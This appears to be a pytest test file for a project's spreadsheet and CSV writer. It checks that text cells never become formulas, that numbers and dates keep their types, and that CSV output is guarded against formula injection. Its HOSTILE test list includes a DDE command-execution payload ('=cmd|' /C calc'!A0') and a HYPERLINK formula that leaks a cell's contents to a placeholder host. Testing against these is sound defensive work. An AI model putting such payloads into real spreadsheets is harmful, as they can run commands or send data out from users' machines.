"""The one safe writer (issue 21): a text cell is always text, numbers and dates stay typed."""

import ast
import datetime
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from fengqiao.spreadsheets import FORMULA_TRIGGERS, Workbook, csv_lines, csv_response

pytestmark = pytest.mark.fast

HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://example.invalid/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+86 139",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "#N/A",
]
ROOT = Path(__file__).resolve().parents[2]


def formula_cells(data: bytes) -> list[str]:
    """Every formula in a workbook, by openpyxl's reading and in the raw sheet XML (``<f>`` elements)."""
    found = []
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        found += [f"{sheet.title}!{c.coordinate}" for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and (b"<f>" in archive.read(name) or b"<f " in archive.read(name)):
                found.append(name)
    return found


def test_text_is_text_whatever_it_starts_with():
    """Given hostile text in every shape, when written, then every cell is a string cell showing it as typed."""
    book = Workbook()
    sheet = book.sheet("名单", headers=["姓名"])
    for value in HOSTILE:
        sheet.append([value])
    data = book.to_bytes()

    assert formula_cells(data) == []
    cells = [row[0] for row in load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]  # XML reads CR as LF
    assert {c.data_type for c in cells} == {"s"}
    # Excel's quote-prefix flag on exactly the values a spreadsheet would evaluate
    assert [c.quotePrefix for c in cells] == [v.startswith(FORMULA_TRIGGERS) for v in HOSTILE]


def test_numbers_and_dates_stay_typed_and_unwritable_characters_are_dropped():
    book = Workbook()
    sheet = book.sheet("t", headers=["a", "b", "c", "d", "e", "f", "g"])
    moment = datetime.datetime(2026, 11, 18, 2, 0, tzinfo=datetime.UTC)
    sheet.append([-5, 2.5, Decimal("3.10"), datetime.date(2026, 11, 18), moment, True, "张\x00三\x1b"])
    row = next(load_workbook(io.BytesIO(book.to_bytes())).active.iter_rows(min_row=2, values_only=True))

    assert row == (-5, 2.5, 3.1, datetime.datetime(2026, 11, 18), datetime.datetime(2026, 11, 18, 10, 0), "是", "张三")


def test_text_columns_and_dropdowns_for_templates():
    book = Workbook()
    sheet = book.sheet("模板[1]", headers=["公民身份号码", "性别"], widths=[22, 8], text_columns=[1])
    sheet.choices(2, ["男", "女"], error="请从下拉列表中选择性别")
    sheet.append(["320505198001010017", "男"])
    ws = load_workbook(io.BytesIO(book.to_bytes())).active

    assert ws.title == "模板1"
    assert ws.column_dimensions["A"].number_format == "@"
    assert ws["A2"].value == "320505198001010017"
    assert [(v.formula1, str(v.sqref)) for v in ws.data_validations.dataValidation] == [('"男,女"', "B2:B100000")]


def test_csv_prefixes_what_a_spreadsheet_would_evaluate():
    lines = list(csv_lines(["姓名", "人数"], [[v, 3] for v in HOSTILE] + [[-1, "-1"]]))

    assert lines[0] == "\ufeff姓名,人数\r\n"
    assert lines[1] == "'=1+2,3\r\n"
    assert lines[3] == "'=cmd|' /C calc'!A0,3\r\n"
    assert lines[-1] == "-1,'-1\r\n"  # the number stays a number; the text "-1" is text
    response = csv_response("名单.csv", ["姓名"], [["=1"]])
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%E5%90%8D%E5%8D%95.csv"
    assert b"".join(response.streaming_content).decode() == "\ufeff姓名\r\n'=1\r\n"


def test_nothing_else_writes_workbooks_or_csv():
    """Every module writes workbooks and CSV through fengqiao.spreadsheets: no other module imports openpyxl's
    Workbook (or its write-only cells) or calls csv.writer / csv.DictWriter."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in (".venv", "bench", "var") or "tests" in relative.parts:
            continue
        if relative == Path("fengqiao/spreadsheets.py"):
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                names = {a.name for a in node.names}
                if names - {"load_workbook"}:
                    offenders.append(f"{relative}: from {node.module} import {', '.join(sorted(names))}")
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(f"{relative}: csv.{node.attr}")
    assert offenders == []
